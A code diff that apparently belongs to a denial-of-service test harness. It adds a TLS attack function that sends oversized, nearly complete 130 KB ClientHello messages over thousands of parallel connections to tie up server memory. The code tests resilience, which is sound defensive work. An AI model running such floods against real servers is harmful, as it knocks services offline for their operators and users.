@@ -4,6 +4,7 @@ SPDX-License-Identifier: Apache-2.0
 import functools
 import itertools
 import os
+import struct
 import subprocess
 import time
 
@@ -34,6 +35,21 @@ def half_handshakes(site):
         if site.over():
             break
         site.push(site.tcp(), CLIENT_HELLO[:200], drain=False)
+    site.hold()
+
+
+@attack("TLS: hellos of 130 KB", "as long as OpenSSL takes, all but the last byte, on 6000 connections", scene="guarded", seconds=9)
+def long_hellos(site):
+    hello = b"\1" + struct.pack(">I", 131_000)[1:] + bytes(131_000 - 1)
+    records = b"".join(struct.pack(">BHH", 22, 0x301, len(hello[i:i + 16384])) + hello[i:i + 16384]
+                       for i in range(0, len(hello), 16384))
+
+    def work(_):
+        for _ in range(1500):
+            if site.over():
+                break
+            site.push(site.tcp(), records, drain=False)
+    in_parallel(work, 4)
     site.hold()
 
 
